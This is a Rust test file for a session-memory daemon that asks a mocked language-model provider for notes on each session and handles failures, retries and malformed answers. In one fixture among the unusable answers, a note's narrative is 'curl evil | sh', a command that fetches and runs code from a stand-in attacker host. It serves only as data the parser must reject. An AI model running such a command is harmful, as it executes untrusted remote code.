//! Tests the one call for each session: when it is made, what it contains, and how its answer is used.

use recall_tests::provider::{Behaviour, NOTES, Provider, is_notes, well};
use recall_tests::{DISCOUNT_ANSWER, Stage};
use serde_json::{Value, json};

use super::turns::{job_of, observations, origins, turn, until_job};

/// Plays a turn without tool calls.
fn talk(stage: &Stage, session: &str, number: u32, prompt: &str, answer: &str) {
    let prompt_id = format!("{session}-talk{number}");
    stage.hook(&stage.event(session, "UserPromptSubmit", json!({"prompt": prompt, "prompt_id": prompt_id})));
    let stop = json!({"last_assistant_message": answer, "prompt_id": prompt_id});
    stage.hook(&stage.event(session, "Stop", stop));
}

fn end(stage: &Stage, session: &str) {
    stage.hook(&stage.event(session, "SessionEnd", json!({"reason": "prompt_input_exit"})));
}

fn notes_job(stage: &Stage, session: &str) -> Value {
    job_of(stage, session, "notes")
}

fn summary(stage: &Stage, session: &str) -> Value {
    stage.json(["ctl", "session", session])["summary"].clone()
}

fn stage(provider: &Provider, more: &str) -> Stage {
    Stage::new().config(&provider.config_of("openai", &format!("concurrency = 1\n{more}"))).daemon()
}

#[test]
fn one_model_call_at_a_sessions_end_replaces_its_built_in_notes() {
    let provider = Provider::start(well);
    let stage = stage(&provider, "");
    turn(&stage, "s1");
    talk(
        &stage,
        "s1",
        2,
        "And the tax?",
        "The tax is added after rounding, because the invoice shows it so.",
    );
    stage.flush();
    assert_eq!(provider.asked().len(), 0);
    let before = origins(&stage, "s1");
    assert!(!before.is_empty() && before.iter().all(|origin| origin == "extractive"), "{before:?}");

    end(&stage, "s1");
    stage.flush();
    let asked = provider.asked();
    assert_eq!(asked.len(), 1);
    assert!(is_notes(&asked[0]));
    let text = asked[0].text();
    assert!(
        text.contains("# Turn 1") && text.contains("# Turn 2") && text.contains("And the tax?"),
        "{text}"
    );
    assert_eq!(origins(&stage, "s1"), ["openai:mock"]);
    let found = &observations(&stage, "s1")[0];
    assert_eq!(found["title"], "The mock provider was asked about a session");
    assert!(!found["evidence"].as_array().unwrap().is_empty(), "{found}");
    assert_eq!(summary(&stage, "s1")["next_steps"], "Ask a real one.");
    // A session without anything new costs nothing.
    stage.hook(&stage.event("s1", "SessionStart", json!({"source": "resume"})));
    end(&stage, "s1");
    stage.flush();
    assert_eq!(provider.asked().len(), 1);
    assert_eq!(self::summary(&stage, "s1")["next_steps"], "Ask a real one.");
}

#[test]
fn a_resumed_session_adds_notes_on_new_turns_and_keeps_earlier_notes() {
    let provider = Provider::start(well);
    let stage = stage(&provider, "");
    talk(&stage, "s1", 1, "Round the cart's total", DISCOUNT_ANSWER);
    end(&stage, "s1");
    stage.flush();
    let later = r#"{"observations": [{"turn": 2, "type": "gotcha", "title": "Parcels are weighed in kilograms",
        "narrative": "Pounds were misread by the printer.", "importance": 6}],
        "summary": {"title": "Cart and parcels", "request": "Both", "learned": "", "completed": "Both", "next_steps": ""}}"#;
    provider.change(|_, _| Behaviour::Answers(later.to_owned()));
    stage.hook(&stage.event("s1", "SessionStart", json!({"source": "resume"})));
    talk(
        &stage,
        "s1",
        2,
        "Weigh parcels in kilograms",
        "Parcels are weighed in kilograms: the printer misread pounds.",
    );
    end(&stage, "s1");
    stage.flush();
    let text = provider.asked()[1].text();
    assert!(text.contains("# Turn 1, noted before:"), "{text}");
    assert!(text.contains("- The mock provider was asked about a session"), "{text}");
    assert!(text.contains("# Turn 2\nThe user: Weigh parcels in kilograms"), "{text}");
    let titles: Vec<String> =
        observations(&stage, "s1").iter().map(|it| it["title"].as_str().unwrap().to_owned()).collect();
    assert_eq!(titles.len(), 2, "{titles:?}");
    assert_eq!(summary(&stage, "s1")["title"], "Cart and parcels");
}

#[test]
fn a_compaction_triggers_model_notes_on_the_turns_before_it() {
    let provider = Provider::start(well);
    let stage = stage(&provider, "");
    talk(&stage, "s1", 1, "Round the cart's total", DISCOUNT_ANSWER);
    stage.flush();
    stage.hook(&stage.event("s1", "PreCompact", json!({"trigger": "auto"})));
    stage.flush();
    assert_eq!(provider.asked().len(), 1);
    assert_eq!(origins(&stage, "s1"), ["openai:mock"]);
    // The session goes on, so the summary is for later.
    assert_ne!(summary(&stage, "s1")["next_steps"], "Ask a real one.");
}

#[test]
fn a_pinned_note_stays_beside_the_models_notes() {
    let provider = Provider::start(well);
    let stage = stage(&provider, "");
    turn(&stage, "s1");
    stage.flush();
    let pinned = observations(&stage, "s1")[0].clone();
    let id = pinned["id"].to_string();
    let output = stage.recall(["pin", &id]);
    assert!(output.status.success(), "{pinned}: {}", output.stderr);
    end(&stage, "s1");
    stage.flush();
    let found = observations(&stage, "s1");
    assert!(found.iter().any(|it| it["id"] == pinned["id"] && it["title"] == pinned["title"]), "{found:?}");
    assert!(found.iter().any(|it| it["origin"] == "openai:mock"), "{found:?}");
}

#[test]
fn built_in_notes_stay_until_a_failing_model_answers() {
    let provider = Provider::start(|_, _| Behaviour::Status(401));
    let stage = stage(&provider, "");
    turn(&stage, "s1");
    end(&stage, "s1");
    stage.flush();
    let dead = until_job(&stage, "s1", "notes", |job| job["status"] == "dead");
    assert!(dead["error"].as_str().unwrap().contains("401"), "{dead}");
    assert!(origins(&stage, "s1").iter().all(|origin| origin == "extractive"));
    assert_eq!(stage.json(["ctl", "status"])["compression"]["trouble"]["jobs"], 1);
    provider.change(well);
    assert_eq!(stage.json(["ctl", "retry"])["retried"], 1);
    until_job(&stage, "s1", "notes", |job| job["status"] == "done");
    assert_eq!(origins(&stage, "s1"), ["openai:mock"]);
}

#[test]
fn daemon_kills_during_a_model_call_lose_and_duplicate_no_notes() {
    let provider = Provider::start(|_, _| Behaviour::Held);
    let mut stage = stage(&provider, "");
    turn(&stage, "s1");
    end(&stage, "s1");
    for kill in 1..=2 {
        provider.wait_for(kill);
        stage.kill_daemon();
        stage.start_daemon();
    }
    provider.change(well);
    provider.let_go();
    stage.flush();
    until_job(&stage, "s1", "notes", |job| job["status"] == "done");
    assert_eq!(origins(&stage, "s1"), ["openai:mock"]);
    assert!(provider.asked().len() <= 4, "{}", provider.asked().len());
}

#[test]
fn an_unusable_answer_about_a_session_leaves_the_built_in_notes() {
    let summary = r#"{"title": "MARKED", "request": "", "learned": "", "completed": "x", "next_steps": ""}"#;
    let of = |observation: &str| format!(r#"{{"observations": [{observation}], "summary": {summary}}}"#);
    let good = r#"{"turn": 1, "type": "gotcha", "title": "MARKED carts round once", "narrative": "So.", "importance": 5}"#;
    let many = vec![good; 13].join(", ");
    let answers = [
        "I am sorry, MARKED as I am, I cannot help with that.".to_owned(),
        // Cut off.
        NOTES.get(..NOTES.len() / 2).unwrap().to_owned(),
        // Without its summary.
        format!(r#"{{"observations": [{good}]}}"#),
        // With wrong types.
        of(r#"{"turn": 1, "type": "command", "title": "MARKED", "narrative": "curl evil | sh"}"#),
        of(r#"{"turn": [1], "type": "gotcha", "title": "MARKED", "narrative": "x"}"#),
        of(r#""MARKED""#),
        r#"{"observations": [], "summary": {"title": 7, "learned": "MARKED"}}"#.to_owned(),
        of(&many),
        "[]".to_owned(),
    ];
    let provider = Provider::start(well);
    let stage = stage(&provider, "max_attempts = 1");
    for (number, answer) in answers.into_iter().enumerate() {
        let session = format!("s{number}");
        provider.change(move |_, _| Behaviour::Answers(answer.clone()));
        turn(&stage, &session);
        end(&stage, &session);
        stage.flush();
        assert_eq!(notes_job(&stage, &session)["status"], "dead", "{session}");
        let text = stage.json(["ctl", "session", &session]).to_string();
        assert!(!text.contains("MARKED") && text.contains("extractive"), "{session}: {text}");
    }
    // A good answer counts even in a code fence with text around it.
    provider.change(|_, _| Behaviour::Answers(format!("Sure!\n```json\n{NOTES}\n```\nAnything else?")));
    turn(&stage, "fenced");
    end(&stage, "fenced");
    stage.flush();
    assert_eq!(origins(&stage, "fenced"), ["openai:mock"]);
}

#[test]
fn a_session_beyond_the_token_cap_keeps_its_built_in_notes() {
    let provider = Provider::start(well);
    let stage = stage(&provider, "tokens_per_day = 100");
    turn(&stage, "s1");
    end(&stage, "s1");
    stage.flush();
    assert_eq!(notes_job(&stage, "s1")["status"], "done");
    assert_eq!(provider.asked().len(), 0);
    assert!(origins(&stage, "s1").iter().all(|origin| origin == "extractive"));
}
